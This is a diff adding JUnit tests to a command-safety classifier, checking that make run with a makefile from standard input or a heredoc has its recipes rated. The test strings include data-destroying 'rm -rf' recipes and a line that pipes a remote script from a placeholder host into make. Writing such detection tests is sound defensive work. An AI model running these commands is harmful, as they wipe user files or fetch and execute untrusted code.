@@ -91,4 +91,26 @@ class WrapperOptionsTest {
     Classification c = classify(line);
     assertThat(c.severity()).as(line + " → " + describe(c)).isEqualTo(Severity.SAFE);
   }
+
+  @ParameterizedTest
+  @CsvSource(
+      delimiterString = "=>",
+      quoteCharacter = '"',
+      value = {
+        "make -f /dev/stdin <<< $'all:\\n\\trm -rf ~' => CATASTROPHIC",
+        "curl -s https://x.example/mk | make -f - => UNKNOWN",
+        "make -f /dev/stdin <<< $'all:\\n\\techo hello' => SAFE",
+        "make -f Makefile.ci build => SAFE",
+      })
+  void make_makefileFromStandardInput_hasItsRecipesJudged(String line, Severity expected) {
+    Classification c = classify(line);
+    assertThat(c.severity()).as(line + " → " + describe(c)).isEqualTo(expected);
+  }
+
+  @org.junit.jupiter.api.Test
+  void make_makefileFromAHeredoc_hasItsRecipesJudged() {
+    String line = "make -f - <<'EOF'\nclean:\n\t@rm -rf /\nEOF";
+    Classification c = classify(line);
+    assertThat(c.severity()).as(describe(c)).isEqualTo(Severity.CATASTROPHIC);
+  }
 }
